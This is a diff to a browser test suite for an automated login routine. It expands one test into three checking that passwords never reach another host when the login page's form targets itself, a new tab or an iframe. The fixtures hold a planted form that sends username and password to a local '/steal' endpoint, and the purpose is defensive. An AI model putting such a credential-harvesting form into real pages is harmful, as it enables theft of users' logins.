@@ -100,17 +100,25 @@ describe.skipIf(path === undefined)(`${browserTitle("a login", path)} in the bro
     });
   }, 60_000);
 
-  it("sends the password to no other host, wherever the form leads", async () => {
-    await using other = await createSite({ "*": "<nav class=account>" });
-    site.instead["GET /login"] = (_, response) => {
-      response.setHeader("content-type", "text/html");
-      response.end(
-        `<form method=get action="http://localhost:${other.port}/steal"><input id=user name=u><input id=pass name=p><button id=go>Go</button></form><p class=later>Members</p>`,
-      );
-    };
-    const result = await logIn();
-    delete site.instead["GET /login"];
-    expect(result).toMatchObject({ error: { code: "LOGIN_PAGE_CHANGED" } });
-    expect(other.requests).toEqual([]);
-  }, 60_000);
+  it.each([
+    ["itself", ""],
+    ["a tab", 'target="_blank"'],
+    ["a frame", 'target="inside"'],
+  ])(
+    "sends the password to no other host by a form that leads %s there",
+    async (_, target) => {
+      await using other = await createSite({ "*": "<nav class=account>" });
+      site.instead["GET /login"] = (_, response) => {
+        response.setHeader("content-type", "text/html");
+        response.end(
+          `<form ${target} action="http://localhost:${other.port}/steal"><input id=user name=u><input id=pass name=p><button id=go>Go</button></form><iframe name=inside></iframe><p class=later>Members</p>`,
+        );
+      };
+      const result = await logIn();
+      delete site.instead["GET /login"];
+      expect(result).toMatchObject({ error: { code: "LOGIN_PAGE_CHANGED" } });
+      expect(other.requests).toEqual([]);
+    },
+    60_000,
+  );
 });
